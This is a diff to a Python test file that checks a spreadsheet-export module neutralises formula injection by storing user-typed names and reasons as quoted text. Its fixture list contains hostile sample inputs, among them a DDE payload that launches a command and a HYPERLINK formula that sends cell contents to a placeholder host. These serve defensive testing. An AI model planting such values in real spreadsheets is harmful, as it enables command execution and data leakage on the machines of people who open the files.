@@ -1,5 +1,6 @@
 """Measured text and plain lists."""
 
+import zipfile
 from collections.abc import Iterable, Sequence
 from datetime import UTC, date, datetime
 from fractions import Fraction
@@ -9,7 +10,35 @@ import pytest
 from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
-from apps.core.xlsx import ListValue, count_lines, sheet_title, text_width, write_table
+from apps.core.xlsx import (
+    Face,
+    ListValue,
+    count_lines,
+    new_workbook,
+    put,
+    sheet_title,
+    text_width,
+    workbook_bytes,
+    write_table,
+)
+
+# What a person may have typed as a name or a reason, and the text that stands in the cell.
+DANGEROUS = [
+    ("=1+1", "=1+1"),
+    ("+1", "+1"),
+    ("-1", "-1"),
+    ("@SUM(A1:A9)", "@SUM(A1:A9)"),
+    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
+    ('=HYPERLINK("http://x.example/"&A1,"点我")', '=HYPERLINK("http://x.example/"&A1,"点我")'),
+    ("\t=1+1", "=1+1"),
+    ("\r\n=1+1", "=1+1"),
+    (" \x00 =1+1", "=1+1"),
+    ("\u3000=1+1", "=1+1"),
+    ("＝1+1", "＝1+1"),
+    ("＋1", "＋1"),
+    ("－1", "－1"),
+    ("＠SUM(A1)", "＠SUM(A1)"),
+]
 
 
 def open_list(
@@ -29,6 +58,49 @@ def test_writes_values_by_their_kind() -> None:
     ]
     assert [cell.number_format for cell in sheet[2]] == ["@", "General", "0.00%", "@", "yyyy-mm-dd"]
     assert (sheet["A3"].data_type, bool(sheet["A3"].quotePrefix)) == ("s", True)
+
+
+@pytest.mark.parametrize(("typed", "shown"), DANGEROUS)
+def test_list_keeps_formulas_as_text(typed: str, shown: str) -> None:
+    sheet = open_list([[typed]], [typed])
+    for cell in (sheet["A1"], sheet["A2"]):
+        assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (shown, "s", True)
+
+
+@pytest.mark.parametrize(("typed", "shown"), DANGEROUS)
+def test_form_keeps_formulas_as_text(typed: str, shown: str) -> None:
+    workbook = new_workbook("表")
+    put(workbook.worksheets[0], 1, 1, typed, Face("仿宋", 12))
+    cell = load_workbook(BytesIO(workbook_bytes(workbook))).worksheets[0]["A1"]
+    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (shown, "s", True)
+
+
+def test_formula_written_past_the_helpers_leaves_as_text() -> None:
+    workbook = new_workbook("表")
+    sheet = workbook.worksheets[0]
+    sheet["B2"] = "=1+1"
+    sheet["B3"], sheet["B4"] = 3, "甲"
+    again = load_workbook(BytesIO(workbook_bytes(workbook))).worksheets[0]
+    assert [(cell.value, cell.data_type) for (cell,) in again["B2:B4"]] == [("=1+1", "s"), (3, "n"), ("甲", "s")]
+    assert again["B2"].quotePrefix
+
+
+@pytest.mark.parametrize("text", ["东兴社区", "1=1", "a-b", "(=1)", "'=1"])
+def test_ordinary_text_gets_no_prefix(text: str) -> None:
+    cell = open_list([[text]], ["名称"])["A2"]
+    assert (cell.value, bool(cell.quotePrefix)) == (text, False)
+
+
+def test_title_of_a_list_is_no_formula_and_no_code() -> None:
+    sheet = load_workbook(BytesIO(write_table("=1+1&P", ["名称"], []))).worksheets[0]
+    assert sheet.title == "=1+1&P"
+    assert b'<oddHeader>&amp;C&amp;"' in _part(write_table("=1+1&P", ["名称"], []), "xl/worksheets/sheet1.xml")
+    assert b"=1+1&amp;&amp;P" in _part(write_table("=1+1&P", ["名称"], []), "xl/worksheets/sheet1.xml")
+
+
+def _part(content: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        return archive.read(name)
 
 
 def test_writes_moments_in_china_time() -> None:
